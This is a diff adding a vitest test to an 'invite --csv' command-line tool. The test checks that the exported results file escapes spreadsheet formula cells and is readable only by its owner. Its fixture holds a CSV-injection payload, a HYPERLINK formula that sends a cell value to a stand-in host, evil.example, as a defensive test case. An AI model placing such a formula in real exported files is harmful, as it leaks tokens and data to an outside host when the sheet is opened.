@@ -1,4 +1,4 @@
-import { readFileSync, writeFileSync } from 'node:fs';
+import { readFileSync, statSync, writeFileSync } from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
@@ -135,6 +135,32 @@ describe.skipIf(DATABASE_URL === undefined)('invite --csv', { timeout: 180_000 }
     }
     const q1 = await db.pool.query(`SELECT 1 FROM "${db.schema}".invitations WHERE email = 'q1@example.com'`);
     expect(q1.rows).toEqual([]);
+  });
+
+  it('--out neutralises formula cells (=, +, -, @) from the supplied file, and is readable by its owner only', async () => {
+    const csv = dir.path('formulas.csv');
+    const cells = [
+      '=HYPERLINK("https://evil.example/?t="&F3,"open")@example.com',
+      '+1+1@example.com',
+      '-2+3@example.com',
+      '@SUM(1)@example.com',
+      '＝1+1@example.com',
+    ];
+    writeFileSync(
+      csv,
+      `email,role\n${cells.map((c) => `"${c.replaceAll('"', '""')}",user`).join('\n')}\nformula-ok@example.com,user\n`,
+    );
+    const out = dir.path('formulas-out.csv');
+    // An existing, world-readable results file is narrowed too (open's mode applies only to a new file).
+    writeFileSync(out, 'old\n', { mode: 0o644 });
+    const result = await runCli(['invite', '--csv', csv, '--out', out], { env: db.env });
+    expect(result.code).toBe(1);
+    expect(statSync(out).mode & 0o777).toBe(0o600);
+    const rows = parse(readFileSync(out), { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r['email'])).toEqual([...cells.map((c) => `'${c}`), 'formula-ok@example.com']);
+    for (const row of rows)
+      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+    expect(rows.at(-1)?.['url']).toMatch(/^https:\/\/app\.example\.com\/signup\?token=/);
   });
 
   it('every documented `invite --csv` line not marked for a config file runs as written on the environment', async () => {
